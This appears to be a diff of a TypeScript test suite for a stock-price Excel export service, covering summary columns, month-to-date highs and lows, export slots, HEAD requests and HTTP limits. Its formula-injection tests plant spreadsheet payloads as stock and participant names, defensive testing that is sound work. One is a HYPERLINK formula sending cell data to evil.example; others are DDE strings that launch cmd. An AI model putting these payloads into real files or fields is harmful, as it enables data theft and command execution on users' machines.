@@ -46,6 +46,7 @@ const config = (over: Partial<ExporterConfig> = {}): ExporterConfig => ({
   ...(Value.Default(ExporterConfig, {}) as ExporterConfig),
   port: 0,
   maxConcurrentExports: 1,
+  exportWaitMs: 2000,
   ...over,
 });
 
@@ -63,6 +64,15 @@ afterAll(async () => {
 });
 
 const exportUrl = (q: Record<string, string>) => `${exporter.url}/export.xlsx?${new URLSearchParams(q)}`;
+
+/** A copy of 00700's gold prices under another code and name (for names a test needs). */
+async function copyStock(code: string, name: string): Promise<void> {
+  await db.pool.query(
+    `insert into gold.daily_prices select $1, trade_date, $2, currency, status, open, high, low, close,
+       prev_close, change_pct, volume, turnover, directed_volume from gold.daily_prices where code = '00700'`,
+    [code, name],
+  );
+}
 
 async function download(q: Record<string, string>): Promise<{ res: Response; bytes: Uint8Array }> {
   const res = await fetch(exportUrl(q));
@@ -129,37 +139,44 @@ describe('GET /export.xlsx, read back with exceljs', () => {
     expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
     const [header, ...rows] = sheetRows(ws, 2);
     expect(header).toEqual([...SHEET_COLUMNS.summary]);
-    expect(rows.map((r) => r[0])).toEqual([...CODES, '99999']);
+    expect(rows.slice(0, 4).map((r) => r[0])).toEqual([...CODES, '99999']);
     for (const [i, code] of CODES.entries()) {
       const { rows: g } = await db.pool.query(
-        `select p.close::float8 as close, p.change_pct::float8 as chg, p.trade_date,
+        `select p.close::float8 as close, p.change_pct::float8 as chg, p.trade_date::text as d,
                 (select pe::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as pe,
                 (select dividend_yield::float8 from gold.stock_picker where code = $1 and as_of <= $3 order by as_of desc limit 1) as dy,
-                m.high::float8 as mh, m.low::float8 as ml, r.dv_30d_trading::float8 as dv30,
+                r.dv_30d_trading::float8 as dv30,
                 (select top10_pct::float8 from gold.ccass_concentration where code = $1 and holding_date <= $3 order by holding_date desc limit 1) as top10
          from gold.daily_prices p
-         join gold.monthly_high_low m on m.code = p.code and m.month = date_trunc('month', p.trade_date)
          join gold.rolling_directed_volume r on r.code = p.code and r.trade_date = p.trade_date
          where p.code = $1 and p.trade_date between $2 and $3 and p.close is not null
          order by p.trade_date desc limit 1`,
         [code, FROM, TO],
       );
       const e = g[0];
-      expect(rows[i]?.slice(0, 10)).toEqual([
+      const mtd = (await goldPrices(db.pool, code, FROM, TO)).find((p) => p.date === e.d)!;
+      expect(rows[i]?.slice(0, 12)).toEqual([
         code,
         NAMES[code],
         e.close,
         e.chg,
         e.pe,
         e.dy,
-        e.mh,
-        e.ml,
+        mtd.monthHigh,
+        mtd.monthHighDate,
+        mtd.monthLow,
+        mtd.monthLowDate,
         e.dv30,
         e.top10,
       ]);
     }
     expect(rows[3]?.[1]).toBeNull();
-    expect(rows[3]?.[10]).toMatch(/unknown code/);
+    expect(rows[3]?.[12]).toMatch(/unknown code/);
+    // The Notes block under the table names the unknown code and the as-of date.
+    const notes = rows.slice(5).map((r) => r[0]);
+    expect(notes[0]).toBe('Notes');
+    expect(notes.join('\n')).toMatch(/as of 30\/10\/2026/);
+    expect(notes.join('\n')).toMatch(/Unknown codes \(no prices for them in Harbour, no sheets\): 99999\./);
     // Widths fit the header and the values.
     SHEET_COLUMNS.summary.forEach((h, i) => {
       expect(ws.getColumn(i + 1).width ?? 0).toBeGreaterThanOrEqual(h.length);
@@ -191,7 +208,9 @@ describe('GET /export.xlsx, read back with exceljs', () => {
           g.dv,
           g.dv30,
           g.monthHigh,
+          g.monthHighDate,
           g.monthLow,
+          g.monthLowDate,
         ]),
       );
       // Formats on a data row.
@@ -297,12 +316,14 @@ describe('LibreOffice headless', () => {
           shown(g.dv, 0),
           shown(g.dv30, 0),
           shown(g.monthHigh, 3, 2),
+          g.monthHighDate ? dmy(g.monthHighDate) : '',
           shown(g.monthLow, 3, 2),
+          g.monthLowDate ? dmy(g.monthLowDate) : '',
         ]);
       });
     }
     const summary = sheets.get('Summary')!;
-    expect(summary.slice(2).map((r) => r[0])).toEqual(['00700', '02319', '99999']);
+    expect(summary.slice(2, 5).map((r) => r[0])).toEqual(['00700', '02319', '99999']);
   }, 90_000);
 });
 
@@ -427,13 +448,9 @@ describe('JSON API for the page', () => {
 });
 
 describe('formula injection', () => {
-  it('escapes text cells that start with = + - @ (stock names, participants)', async () => {
+  it('writes text cells from data as inline strings shown as given, never formulas (= + - @)', async () => {
     const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-    await db.pool.query(
-      `insert into gold.daily_prices select '08888', trade_date, $1, currency, status, open, high, low, close,
-         prev_close, change_pct, volume, turnover, directed_volume from gold.daily_prices where code = '00700'`,
-      [evilName],
-    );
+    await copyStock('08888', evilName);
     await db.pool.query(
       `insert into gold.ccass_changes select '08888', holding_date, prev_holding_date, participant_key, participant_id,
          case participant_key when 'C00019' then '+cmd|'' /C calc''!A0' when 'C00010' then '@SUM(1+1)*cmd|'' /C calc''!A0'
@@ -458,20 +475,42 @@ describe('formula injection', () => {
         row.eachCell((cell) => {
           expect(cell.formula).toBeUndefined();
           expect(cell.type).not.toBe(6); // ValueType.Formula
-          if (typeof cell.value === 'string') texts.push(cell.value);
+          const v = cellValue(cell);
+          if (typeof v === 'string' && cell.type !== 4 /* Date */) {
+            // An inline string (read back as rich text), not a plain/formula-result string (t="str").
+            expect(cell.type, v).toBe(8); // ValueType.RichText
+            texts.push(v);
+          }
         }),
       );
     }
-    expect(texts).toContain(`'${evilName}`);
-    expect(texts).toContain(`'+cmd|' /C calc'!A0`);
-    expect(texts).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
-    expect(texts).toContain(`'-2+3+cmd|' /C calc'!A0`);
-    for (const t of texts) expect(t).not.toMatch(/^[=+\-@]/);
+    // Shown exactly as given: no quote in front.
+    expect(texts).toContain(evilName);
+    expect(texts).toContain(`+cmd|' /C calc'!A0`);
+    expect(texts).toContain(`@SUM(1+1)*cmd|' /C calc'!A0`);
+    expect(texts).toContain(`-2+3+cmd|' /C calc'!A0`);
+    expect(texts.some((t) => t.startsWith("'"))).toBe(false);
     // The sheet name is cleaned of characters a sheet name cannot hold.
     expect(wb.worksheets[1]?.name).toBe(stockSheetName('08888', evilName));
     expect(wb.worksheets[1]?.name.length).toBeLessThanOrEqual(31);
-    expect(safeText('\u0001=1')).toBe("'=1");
+    expect(safeText('\u0001=1')).toBe('=1');
   });
+
+  it('a name with leading whitespace before = stays text in LibreOffice: shown as given, not evaluated', async (ctx) => {
+    await copyStock('08887', ' =1+1');
+    const soffice = await findSoffice();
+    if (!soffice) {
+      console.warn('skipping: soffice is not installed (apt-get install libreoffice-calc)');
+      ctx.skip();
+      return;
+    }
+    const { res, bytes } = await download({ codes: '08887', from: FROM, to: TO, sheets: 'summary' });
+    expect(res.status).toBe(200);
+    const sheets = await libreOfficeCsv(soffice, bytes, await testDir('lo-formula'));
+    const summary = sheets.get('Summary')!;
+    // Row 3 is the stock: its name exactly as given (leading space kept, no quote, not 2).
+    expect(summary[2]?.slice(0, 2)).toEqual(['08887', ' =1+1']);
+  }, 90_000);
 });
 
 describe('limits and safety', () => {
@@ -564,5 +603,262 @@ describe('limits and safety', () => {
     } finally {
       await guarded.close();
     }
+  });
+});
+
+/** A GET from a given local address (127.0.0.x: another client as the exporter sees it). */
+function getFrom(localAddress: string, url: string): Promise<{ status: number; body: string }> {
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(url, { localAddress }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () =>
+        resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('latin1') }),
+      );
+    });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
+/** One numeric sample of /metrics (summed over labels when `labels` is omitted). */
+async function metric(name: string, labels?: string): Promise<number> {
+  const text = await (await fetch(`${exporter.url}/metrics`)).text();
+  let sum = 0;
+  for (const line of text.split('\n')) {
+    if (line.startsWith('#')) continue;
+    const m = /^([a-z_]+)(\{[^}]*\})? (\S+)$/.exec(line);
+    if (m?.[1] === name && (labels === undefined || m[2] === labels)) sum += Number(m[3]);
+  }
+  return sum;
+}
+
+describe('export slots and HEAD', () => {
+  it('one client downloading 50 workbooks strictly one after another gets 50 × 200', async () => {
+    const statuses: number[] = [];
+    for (let i = 0; i < 50; i++) {
+      const res = await fetch(exportUrl({ codes: '00700', from: '2026-10-01', to: TO, sheets: 'prices' }));
+      const bytes = new Uint8Array(await res.arrayBuffer());
+      statuses.push(res.status);
+      if (res.status !== 200) throw new Error(`download ${i + 1}: ${res.status} ${Buffer.from(bytes)}`);
+    }
+    expect(statuses).toEqual(Array(50).fill(200));
+    await exportsIdle();
+  }, 120_000);
+
+  it('HEAD answers the headers without building a workbook or taking a slot', async () => {
+    const built = await metric('harbour_exporter_exports_total');
+    const rows = await metric('harbour_exporter_rows_written_total');
+    const res = await fetch(exportUrl({ codes: '00700,99999', from: FROM, to: TO }), { method: 'HEAD' });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    );
+    expect(res.headers.get('content-disposition')).toBe(
+      `attachment; filename="harbour-00700-99999-${FROM}-${TO}.xlsx"`,
+    );
+    expect(res.headers.get('x-harbour-unknown-codes')).toBe('99999');
+    const none = await fetch(exportUrl({ codes: '99998', from: FROM, to: TO }), { method: 'HEAD' });
+    expect(none.status).toBe(404);
+    const bad = await fetch(exportUrl({ codes: '00700', from: TO, to: FROM }), { method: 'HEAD' });
+    expect(bad.status).toBe(400);
+    // Nothing was built: no export counted, no row written, no slot held.
+    expect(await metric('harbour_exporter_exports_total')).toBe(built);
+    expect(await metric('harbour_exporter_rows_written_total')).toBe(rows);
+    expect(await metric('harbour_exporter_exports_in_flight')).toBe(0);
+  });
+
+  it('while a slot is held: the same client hears its own export runs, another client hears others do; a waiting request gets the freed slot', async () => {
+    const client = await db.pool.connect();
+    try {
+      await client.query('begin');
+      await client.query('lock table gold.daily_prices in access exclusive mode');
+      const first = getFrom('127.0.0.1', exportUrl({ codes: '00700', from: FROM, to: TO }));
+      const deadline = Date.now() + 10_000;
+      while ((await metric('harbour_exporter_exports_in_flight')) < 1) {
+        if (Date.now() > deadline) throw new Error('export never started');
+        await new Promise((r) => setTimeout(r, 25));
+      }
+      const [own, other] = await Promise.all([
+        getFrom('127.0.0.1', exportUrl({ codes: '00005', from: FROM, to: TO })),
+        getFrom('127.0.0.2', exportUrl({ codes: '00005', from: FROM, to: TO })),
+      ]);
+      expect(own.status).toBe(429);
+      expect(JSON.parse(own.body)).toMatchObject({ error: 'busy', reason: 'own' });
+      expect(JSON.parse(own.body).message).toMatch(/your previous export .* is still being downloaded/);
+      expect(other.status).toBe(429);
+      expect(JSON.parse(other.body)).toMatchObject({ error: 'busy', reason: 'others' });
+      expect(JSON.parse(other.body).message).toMatch(/1 export\(s\) by other users are running/);
+      // A request that arrives now waits; the lock goes, the first export ends, the waiter gets its slot.
+      const waiting = getFrom('127.0.0.2', exportUrl({ codes: '00005', from: FROM, to: TO }));
+      await new Promise((r) => setTimeout(r, 200));
+      await client.query('commit');
+      expect((await first).status).toBe(200);
+      expect((await waiting).status).toBe(200);
+    } finally {
+      client.release();
+    }
+    await exportsIdle();
+  });
+});
+
+describe('workbook semantics', () => {
+  it('a mid-month from date: each daily row shows the month-to-date high/low of the rows up to that day only', async () => {
+    const from = '2026-03-17';
+    const to = '2026-05-15';
+    const { res, bytes } = await download({ codes: '00700', from, to, sheets: 'prices' });
+    expect(res.status).toBe(200);
+    const ws = (await readWorkbook(bytes)).getWorksheet('00700 TENCENT')!;
+    const rows = sheetRows(ws, 3);
+    // Independently: every gold row of the month from its 1st (also before `from`), up to the day.
+    const { rows: all } = await db.pool.query<{ date: string; high: number | null; low: number | null }>(
+      `select trade_date::text as date, high::float8 as high, low::float8 as low from gold.daily_prices
+       where code = '00700' and trade_date between '2026-03-01' and $1 order by trade_date`,
+      [to],
+    );
+    const inRange = all.filter((g) => g.date >= from);
+    expect(rows.map((r) => r[0])).toEqual(inRange.map((g) => g.date));
+    let lookedAhead = 0;
+    for (const r of rows) {
+      const day = r[0] as string;
+      const known = all.filter((g) => g.date.slice(0, 7) === day.slice(0, 7) && g.date <= day);
+      const hi = Math.max(...known.map((g) => g.high as number));
+      const lo = Math.min(...known.map((g) => g.low as number));
+      expect(r.slice(10, 14), day).toEqual([
+        hi,
+        known.find((g) => g.high === hi)?.date,
+        lo,
+        known.find((g) => g.low === lo)?.date,
+      ]);
+      // The month's final high is often reached after the day: a look-ahead would differ.
+      const month = all.filter((g) => g.date.slice(0, 7) === day.slice(0, 7));
+      if (Math.max(...month.map((g) => g.high as number)) !== hi) lookedAhead++;
+    }
+    expect(lookedAhead).toBeGreaterThan(5);
+    // 17/03 already knows the March rows before `from`.
+    const march = all.filter((g) => g.date < from);
+    expect(march.length).toBeGreaterThan(5);
+    expect(rows[0]?.[10]).toBe(Math.max(...all.filter((g) => g.date <= from).map((g) => g.high as number)));
+  });
+
+  it('unknown codes are always listed: Summary with Notes even with sheets=prices, header; none known → 404 naming them', async () => {
+    const { res, bytes } = await download({ codes: '700,5,99999', from: FROM, to: TO, sheets: 'prices' });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('x-harbour-unknown-codes')).toBe('99999');
+    const wb = await readWorkbook(bytes);
+    expect(wb.worksheets.map((w) => w.name)).toEqual(['Summary', '00700 TENCENT', '00005 HSBC HOLDINGS']);
+    const summary = sheetRows(wb.getWorksheet('Summary')!, 3);
+    expect(summary.slice(0, 3).map((r) => r[0])).toEqual(['00700', '00005', '99999']);
+    expect(summary.map((r) => r[0]).join('\n')).toMatch(
+      /Unknown codes \(no prices for them in Harbour, no sheets\): 99999\./,
+    );
+
+    const none = await fetch(exportUrl({ codes: '99999,88888', from: FROM, to: TO }));
+    expect(none.status).toBe(404);
+    expect(await none.json()).toEqual({
+      error: 'unknown_code',
+      parameter: 'codes',
+      message: 'codes: 99999, 88888 are not known stocks; Harbour has no prices for them',
+    });
+    await exportsIdle();
+  });
+
+  it('the Summary states its as-of date and takes every figure at that date', async () => {
+    // A range after the last prices: nothing is as of it, so no figure at all (not P/E from 2026).
+    const future = await download({
+      codes: '00700',
+      from: '9999-12-31',
+      to: '9999-12-31',
+      sheets: 'summary',
+    });
+    expect(future.res.status).toBe(200);
+    const fs = wb0(await readWorkbook(future.bytes));
+    expect(String(fs.title)).toMatch(/as of n\/a \(no prices in the range\)/);
+    expect(fs.row.slice(0, 2)).toEqual(['00700', 'TENCENT']);
+    expect(fs.row.slice(2, 12)).toEqual(Array(10).fill(null));
+    expect(fs.row[12]).toBe('no prices between 31/12/9999 and 31/12/9999');
+
+    // `to` on a Sunday: every figure as of the Friday before, the last day with prices.
+    const to = '2026-06-14';
+    const asOf = '2026-06-12';
+    const d = await download({ codes: '00700', from: '2026-06-01', to, sheets: 'summary' });
+    const s = wb0(await readWorkbook(d.bytes));
+    expect(String(s.title)).toMatch(/as of 12\/06\/2026/);
+    const { rows: g } = await db.pool.query(
+      `select p.close::float8 as close, s.pe::float8 as pe, s.dividend_yield::float8 as dy, r.dv_30d_trading::float8 as dv30
+       from gold.daily_prices p
+       join gold.stock_picker s on s.code = p.code and s.as_of = p.trade_date
+       join gold.rolling_directed_volume r on r.code = p.code and r.trade_date = p.trade_date
+       where p.code = '00700' and p.trade_date = $1`,
+      [asOf],
+    );
+    const mtd = (await goldPrices(db.pool, '00700', '2026-06-01', asOf)).at(-1)!;
+    const { rows: cc } = await db.pool.query(
+      `select top10_pct::float8 as t from gold.ccass_concentration where code = '00700' and holding_date <= $1
+       order by holding_date desc limit 1`,
+      [asOf],
+    );
+    expect(s.row.slice(2, 3)).toEqual([g[0].close]);
+    expect(s.row.slice(4, 12)).toEqual([
+      g[0].pe,
+      g[0].dy,
+      mtd.monthHigh,
+      mtd.monthHighDate,
+      mtd.monthLow,
+      mtd.monthLowDate,
+      g[0].dv30,
+      cc[0]?.t ?? null,
+    ]);
+    await exportsIdle();
+  });
+
+  it('keeps apostrophes inside sheet names (Excel forbids them only at the ends)', async () => {
+    expect(stockSheetName('00062', "TRANSPORT INT'L")).toBe("00062 TRANSPORT INT'L");
+    expect(stockSheetName('00001', "ODD NAME'")).toBe('00001 ODD NAME');
+    await copyStock('00062', "TRANSPORT INT'L");
+    const { res, bytes } = await download({ codes: '62', from: FROM, to: TO, sheets: 'prices' });
+    expect(res.status).toBe(200);
+    expect((await readWorkbook(bytes)).worksheets.map((w) => w.name)).toEqual([
+      'Summary',
+      "00062 TRANSPORT INT'L",
+    ]);
+  });
+});
+
+/** The Summary's title and first data row. */
+function wb0(wb: ExcelJS.Workbook): { title: unknown; row: (number | string | null)[] } {
+  const ws = wb.getWorksheet('Summary')!;
+  return { title: cellValue(ws.getCell('A1')), row: sheetRows(ws, 3)[0] ?? [] };
+}
+
+describe('HTTP protocol', () => {
+  it.each(['OPTIONS', 'POST', 'PUT', 'DELETE', 'PATCH'])(
+    '%s on a GET route → 405 with Allow',
+    async (method) => {
+      const res = await fetch(`${exporter.url}/export.xlsx?codes=700&from=${FROM}&to=${TO}`, { method });
+      expect(res.status).toBe(405);
+      expect(res.headers.get('allow')).toBe('GET, HEAD');
+      expect(await res.json()).toMatchObject({ error: 'method_not_allowed' });
+      const page = await fetch(`${exporter.url}/`, { method });
+      expect(page.status).toBe(405);
+      expect(page.headers.get('allow')).toBe('GET, HEAD');
+    },
+  );
+
+  it('an unknown path stays 404', async () => {
+    expect((await fetch(`${exporter.url}/nope`, { method: 'POST' })).status).toBe(404);
+  });
+
+  it('10,000 codes → 414 naming codes, counted in the metrics (not Node’s bare 431)', async () => {
+    const before = await metric('harbour_exporter_requests_total', '{route="/export.xlsx",status="414"}');
+    const codes = Array.from({ length: 10_000 }, (_, i) => String(i + 1)).join(',');
+    const res = await fetch(exportUrl({ codes, from: FROM, to: TO }));
+    expect(res.status).toBe(414);
+    const body = (await res.json()) as { error: string; parameter: string; message: string };
+    expect(body).toMatchObject({ error: 'uri_too_long', parameter: 'codes' });
+    expect(body.message).toMatch(/codes is too long \(at most 200 codes per request\)/);
+    expect(await metric('harbour_exporter_requests_total', '{route="/export.xlsx",status="414"}')).toBe(
+      before + 1,
+    );
   });
 });
